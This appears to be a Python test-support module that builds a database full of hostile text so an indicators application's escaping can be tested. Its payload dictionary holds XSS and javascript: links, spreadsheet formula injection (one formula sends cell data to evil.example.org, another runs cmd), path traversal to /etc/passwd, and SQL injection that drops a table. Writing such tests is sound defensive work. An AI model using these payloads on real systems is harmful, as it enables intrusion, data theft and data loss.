"""What strangers may send, wherever a text can be sent: nothing of it may be more than text."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

from data.records import Upload
from data.store import Store, create_store
from indicators.model import Area, Place, Strategy, Text
from tests.support import a_strategy, an_indicator, an_observation

HOSTILE: dict[str, str] = {
    "element": "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'>",
    "attribute": "\"><svg onload=window.hacked=1>' onmouseover='window.hacked=1",
    "end of style": "</style><script>window.hacked=1</script>",
    "link": "javascript:window.hacked=1",
    "markdown": "[a](javascript:window.hacked=1) ![b](http://evil.example.org/x) :material/x:",
    "formula": '=HYPERLINK("http://evil.example.org?"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sign": "+1+1",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\C:\\Windows\\win.ini",
    "address of a file": "file:///etc/passwd",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "format": "{0.__class__.__mro__} {period} {n:>99999999} %(name)s %s %n",
    "SQL": "x'; DROP TABLE observations; --",
    "condition": "' OR '1'='1",
    "expression": "datum['x'];alert(1)",
    "empty": "",
    "space": " \t ",
    "huge": "x" * 20_000,
    "right to left": "\u202egpj.xslx\u202c\u2066",
    "invisible": "P\u200bE\ufeff\u00ad\u2060",
    "lookalike": "\u0420\u0415 \uff30\uff25 \u2133",
    "combining": "e" + "\u0301" * 200,
    "beyond the BMP": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041",
    "lines": "a\u2028b\u2029c\x85d",
}
"""A text of each kind, by what it tries or is."""

IN_A_LINE = {
    name: text.strip() for name, text in HOSTILE.items() if text.isascii() and len(text) < 4000
}
"""Those that a header can hold."""

LIVE = ("<script>window", "<img src=x", "<svg onload", "</style><script", 'href="javascript:')
"""What is in a page only where a text became markup."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

AT = datetime.fromisoformat("2024-02-01T12:00")


def hostile_strategy() -> Strategy:
    """Every text of a strategy that people read is hostile; each kind is a target's name."""
    texts = [Text(text, text, text) for text in HOSTILE.values()]
    targets = [
        an_indicator(code=f"M{n:02}", name=text, unit=text.es[:200], definition=text)
        for n, text in enumerate(texts, start=1)
    ]
    first = texts[0]
    return replace(
        a_strategy(*targets),
        areas=(Area("A1", 1, 1.0, texts[1]),),
        places=(
            Place("REG", first),
            Place("PE", texts[5]),
            Place("CO", texts[2], (HOSTILE["SQL"],)),
        ),
    )


def hostile_store(path: Path) -> Store:
    """A database whose strategy, notes, sheets, files, users and reasons are all hostile."""
    store = create_store(path)
    store.set_today(date(2025, 11, 20), "editor", AT)
    strategy = hostile_strategy()
    upload = Upload(HOSTILE["path"], b"s", HOSTILE["element"], AT, HOSTILE["formula"])
    store.accept_strategy(upload, strategy, None)
    values = [
        replace(an_observation(100.0 + n, period, place), indicator=f"M{n:02}", note=text)
        for n, text in enumerate(HOSTILE.values(), start=1)
        for period in ("2024-Q3", "2024-Q4")
        for place in ("PE", "CO")
    ]
    values = [replace(one, sheet=HOSTILE["sign"]) for one in values]
    again = Upload(HOSTILE["attribute"], b"v", HOSTILE["command"], AT, HOSTILE["SQL"])
    store.accept_values(again, store.compare(values))
    return store
